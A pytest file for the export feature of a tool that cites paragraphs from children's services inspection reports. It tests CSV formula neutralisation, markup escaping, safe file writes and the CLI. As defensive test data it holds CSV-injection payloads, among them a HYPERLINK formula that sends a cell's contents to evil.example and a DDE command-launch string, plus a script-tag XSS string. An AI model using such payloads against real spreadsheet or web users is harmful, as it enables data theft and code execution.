"""Export of cited paragraphs: the same citations in CSV, Markdown, Word and JSON; spreadsheet
formulas neutralised; XML-illegal characters stripped; safe, atomic writes; the CLI command."""

from __future__ import annotations

import csv
import io
import json
import os
from datetime import date
from pathlib import Path

import docx
import pytest
from click.testing import CliRunner
from fakes import FakeEmbedder, fake_seed_library

from findings.citations import citation
from findings.cli import main
from findings.errors import QueryError
from findings.export import (
    FIELDS,
    ExportItem,
    items_from_hits,
    items_from_ids,
    neutralise,
    record,
    render,
    write,
)
from findings.library import Library
from findings.models import Paragraph, Report, ReportMeta

SEEDS = Path(__file__).resolve().parents[1] / "seeds"
FIVE = (
    "blackburn-with-darwen-2022-ilacs:p9",
    "blackburn-with-darwen-2022-ilacs:p19",
    "blackburn-with-darwen-2017-sif:p43",
    "blackpool-2012-child-protection:p16",
    "blackpool-2012-child-protection:p20",
)


@pytest.fixture(scope="module")
def library(tmp_path_factory) -> Library:
    return fake_seed_library(tmp_path_factory.mktemp("export-seeds"))


@pytest.fixture(scope="module")
def five(library) -> list[ExportItem]:
    return items_from_ids(library.store, FIVE, query="domestic abuse over-optimism")


def five_citations(library) -> list[str]:
    store = library.store
    return [citation(store.report(pid.split(":")[0]), store.paragraph(pid)) for pid in FIVE]


def fake_item(text: str, title: str = "Inspection of Testshire", query: str | None = None) -> ExportItem:
    meta = ReportMeta(
        authority="Cornwall", report_type="focused_visit", title=title,
        inspection_start=date(2021, 5, 4), inspection_end=date(2021, 5, 5), published=date(2021, 6, 1),
    )
    report = Report("cornwall-2021-focused-visit", "/reports/cornwall, 2021.pdf", "h", meta, 3, 9)
    paragraph = Paragraph(report.id, "p3", 3, "numbered", "Help and protection", 2, 3, text)
    return ExportItem.of(paragraph, report, query)


def csv_rows(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def docx_paragraphs(data: bytes) -> list[docx.text.paragraph.Paragraph]:
    return list(docx.Document(io.BytesIO(data)).paragraphs)


def test_four_formats_carry_identical_citations(five, library):
    expected = five_citations(library)
    assert len(set(expected)) == 5
    from_csv = [row["citation"] for row in csv_rows(render(five, "csv"))]
    from_json = [row["citation"] for row in json.loads(render(five, "json"))]
    paragraphs = docx_paragraphs(render(five, "docx"))
    from_docx = [p.text for p in paragraphs if p.text in expected]
    markdown = render(five, "md").decode()
    from_md = [line.removeprefix("— ") for line in markdown.splitlines() if line.startswith("— ")]
    assert from_csv == from_json == from_docx == from_md == expected


def test_every_format_has_the_full_reference(five):
    rows = json.loads(render(five, "json"))
    assert [r["id"] for r in rows] == list(FIVE)
    first = rows[0]
    assert set(first) == set(FIELDS)
    assert first["authority"] == "Blackburn with Darwen"
    assert first["report_type"] == "ilacs_standard"
    assert (first["inspection_start"], first["inspection_end"]) == ("2022-01-24", "2022-02-04")
    assert first["paragraph"] == "paragraph 9"
    assert first["query"] == "domestic abuse over-optimism"
    assert first["source"] == "blackburn-with-darwen-2022-ilacs-inspection.txt"  # a file name, never a path
    assert "domestic abuse" in first["text"]
    assert csv_rows(render(five, "csv"))[0] == {k: "" if v is None else str(v) for k, v in first.items()}
    markdown = render(five, "md").decode()
    assert markdown.startswith("# Findings\n") and "Query: domestic abuse over-optimism" in markdown
    assert "Source: " in markdown and "Inspected: 24 January-4 February 2022" in markdown


def test_word_file_opens_with_heading_query_quotes_and_citations(five, library):
    paragraphs = docx_paragraphs(render(five, "docx", title="Domestic abuse"))
    assert paragraphs[0].text == "Domestic abuse" and paragraphs[0].style.name.startswith("Heading")
    text = "\n".join(p.text for p in paragraphs)
    assert "Query: domestic abuse over-optimism" in text
    quotes = [p.text for p in paragraphs if p.style.name == "Quote"]
    assert quotes == [library.store.paragraph(pid).text for pid in FIVE]
    for cited in five_citations(library):
        assert cited in text


def test_csv_neutralises_formulas_and_round_trips_everything_else():
    texts = [
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "-5 children were seen late, a fall of 5%.",
        "@SUM(A1:A9)",
        "+44 20 7946 0000",
        "\tTabbed start",
        'Plain text, with "quotes", commas;\nand a second line.',
    ]
    items = [fake_item(t, title="=cmd|' /C calc'!A0", query="=1+1") for t in texts]
    rows = csv_rows(render(items, "csv"))
    assert len(rows) == len(texts)
    for item, row in zip(items, rows, strict=True):
        want = {k: "" if v is None else str(v) for k, v in record(item).items()}
        for field in FIELDS:
            value = want[field]
            if value[:1] in ("=", "+", "-", "@", "\t", "\r"):
                assert row[field] == "'" + value, field
            else:
                assert row[field] == value, field
    assert rows[0]["text"].startswith("'=HYPERLINK")
    assert rows[1]["text"] == "'-5 children were seen late, a fall of 5%."
    assert rows[5]["text"] == texts[5]
    assert neutralise("Safe = fine") == "Safe = fine"


def test_xml_illegal_characters_are_stripped_everywhere():
    dirty = "Risk\x00 is\x0b high\x1f\ufffe\uffff for\ud800 children.\tTabs stay."
    item = fake_item(dirty, title="Title\x07", query="query\x01")
    clean = "Risk is high for children.\tTabs stay."
    paragraphs = docx_paragraphs(render([item], "docx", title="Heading\x02"))
    assert paragraphs[0].text == "Heading"
    assert [p.text for p in paragraphs if p.style.name == "Quote"] == [clean]
    assert json.loads(render([item], "json"))[0]["text"] == clean
    assert csv_rows(render([item], "csv"))[0]["text"] == clean
    assert clean in render([item], "md").decode()


def test_markdown_keeps_report_text_as_text():
    text = "<script>alert(1)</script> see [here](javascript:x) and *not bold* & _not_ `code`\n# not a heading"
    markdown = render([fake_item(text)], "md").decode()
    assert "<script>" not in markdown and "\\[here\\](javascript:x)" in markdown
    quote = [line for line in markdown.splitlines() if line.startswith(">")]
    assert quote[0].startswith("> \\<script\\>") and quote[1] == "> \\# not a heading"
    unescaped = "\n".join(line[2:] for line in quote).replace("\\", "")
    assert unescaped == text.replace("\\", "")


def test_items_from_hits_and_unknown_ids(library):
    hits = library.search("domestic abuse", k=3)
    items = items_from_hits(hits, "domestic abuse")
    assert [i.record["id"] for i in items] == [h.paragraph.id for h in hits]
    assert {i.query for i in items} == {"domestic abuse"}
    with pytest.raises(QueryError, match="no paragraph with id 'nope:p1'"):
        items_from_ids(library.store, [FIVE[0], "nope:p1"])
    assert len(items_from_ids(library.store, [FIVE[0], FIVE[0]])) == 1


def test_write_refuses_overwrite_without_force_and_writes_atomically(five, tmp_path):
    out = tmp_path / "out.csv"
    write(five, "csv", str(out))
    first = out.read_bytes()
    assert csv_rows(first)[0]["id"] == FIVE[0]
    out.write_bytes(b"keep me")
    with pytest.raises(QueryError, match="exists; use --force to overwrite"):
        write(five, "json", str(out))
    assert out.read_bytes() == b"keep me"
    write(five, "json", str(out), force=True)
    assert len(json.loads(out.read_bytes())) == 5
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.csv"]  # no temp files left


def test_write_refuses_a_folder_and_a_missing_folder(five, tmp_path):
    with pytest.raises(QueryError, match="is a folder"):
        write(five, "md", str(tmp_path), force=True)
    with pytest.raises(QueryError, match="does not exist"):
        write(five, "md", str(tmp_path / "missing" / "out.md"))
    assert list(tmp_path.iterdir()) == []


def test_write_never_follows_a_symlink_at_the_target(five, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    victim = outside / "victim.txt"
    victim.write_text("precious")
    inside = tmp_path / "exports"
    inside.mkdir()
    link = inside / "out.md"
    link.symlink_to(victim)
    dangling = inside / "dangling.md"
    dangling.symlink_to(outside / "new.md")
    for target in (link, dangling):
        for force in (False, True):
            with pytest.raises(QueryError, match="symbolic link"):
                write(five, "md", str(target), force=force)
    assert victim.read_text() == "precious"
    assert sorted(p.name for p in outside.iterdir()) == ["victim.txt"]
    assert sorted(p.name for p in inside.iterdir()) == ["dangling.md", "out.md"]
    assert os.readlink(link) == str(victim)


def test_stdout_for_text_formats_only(five, capsysbinary):
    write(five, "json", "-")
    assert len(json.loads(capsysbinary.readouterr().out)) == 5
    with pytest.raises(QueryError, match="standard output"):
        write(five, "docx", "-")
    with pytest.raises(QueryError, match="unknown export format"):
        render(five, "pdf")


def test_cli_export(library, tmp_path, monkeypatch):
    monkeypatch.setattr("findings.embedding.load_embedder", lambda *a, **k: FakeEmbedder())
    index = ["--index", str(library.settings.index_dir)]
    runner = CliRunner()
    out = tmp_path / "five.docx"
    result = runner.invoke(main, ["export", *FIVE, "--format", "docx", "--out", str(out), *index])
    assert result.exit_code == 0, result.output
    assert "wrote 5 paragraphs" in result.output
    assert len([p for p in docx.Document(str(out)).paragraphs if p.style.name == "Quote"]) == 5
    again = runner.invoke(main, ["export", *FIVE, "--format", "docx", "--out", str(out), *index])
    assert again.exit_code == 1 and "exists; use --force to overwrite" in again.output
    forced = runner.invoke(main, ["export", FIVE[0], "--format", "docx", "--out", str(out), "--force", *index])
    assert forced.exit_code == 0
    stdout = runner.invoke(main, ["export", FIVE[0], "--format", "md", "--out", "-", *index])
    assert stdout.exit_code == 0 and stdout.output.startswith("# Findings")
    refused = runner.invoke(main, ["export", FIVE[0], "--format", "docx", "--out", "-", *index])
    assert refused.exit_code == 1 and "standard output" in refused.output
    query = runner.invoke(
        main, ["export", "--query", "domestic abuse", "-k", "4", "--format", "json", "--out", "-", *index]
    )
    assert query.exit_code == 0, query.output
    rows = json.loads(query.output)
    assert len(rows) == 4 and {r["query"] for r in rows} == {"domestic abuse"}
    unknown = runner.invoke(main, ["export", "nope:p1", "--format", "csv", "--out", "-", *index])
    assert unknown.exit_code == 1 and "nope:p1" in unknown.output
    neither = runner.invoke(main, ["export", "--format", "csv", "--out", "-", *index])
    assert neither.exit_code == 2
